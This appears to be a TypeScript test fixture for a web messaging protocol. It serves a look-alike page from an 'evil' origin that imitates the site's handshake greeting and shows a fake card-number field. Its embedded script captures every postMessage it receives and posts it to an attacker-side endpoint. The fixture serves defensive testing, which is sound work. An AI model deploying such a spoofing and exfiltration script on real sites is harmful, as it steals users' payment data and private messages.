import type { World } from './world.js';

/** A document of another site that greets as ours do, and tells its own server of everything that it hears. */
export function serveLookAlike(world: World): { readonly url: string; readonly heard: readonly string[] } {
  const { build } = world.site;
  const heard: string[] = [];
  const tell = world.hosts.serve('/overheard', {
    handle: async (_, body) => {
      heard.push(body);
      return { status: 200, body: '' };
    },
  });
  const greeting = { cloister: 'hello', protocol: 1, build, role: 'collect', frame: 'a'.repeat(22) };
  const script = `const tell = (body) => fetch('${tell}', { method: 'POST', keepalive: true, body });
    addEventListener('message', (event) => tell(JSON.stringify(event.data)));
    parent.postMessage(${JSON.stringify(greeting)}, '*');
    tell('began');
    setTimeout(tell, 600, 'listened');`;
  const path = world.hosts.serve('/look-alike', {
    body: `<!doctype html><label>Card number <input></label><script>${script}</script>`,
  });
  return { url: `${world.hosts.origin('evil')}${path}`, heard };
}
